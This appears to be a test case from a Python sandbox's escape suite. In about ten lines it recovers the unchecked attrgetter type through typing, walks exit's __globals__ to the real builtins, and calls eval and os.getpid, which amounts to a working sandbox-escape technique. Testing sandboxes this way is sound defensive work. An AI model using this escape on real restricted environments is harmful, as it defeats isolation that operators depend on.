# technique: the checked operator.attrgetter returned a real attrgetter object; its class (the denied type reached as typing.get_origin(typing.Type[int])) is the unchecked C attrgetter, which walks '__init__.__globals__' on exit
# configs: default, common
# With nothing allowed `import operator` is refused.
import operator
import typing
u = '_' * 2
real_type = typing.get_origin(typing.Type[int])
AttrGetter = real_type(operator.attrgetter('real'))
g = AttrGetter(u + 'init' + u + '.' + u + 'globals' + u)(exit)
b = g[u + 'builtins' + u]
return [{'json': {'escaped': [b['eval']('6 * 7'), b[u + 'import' + u]('os').getpid()]}}]
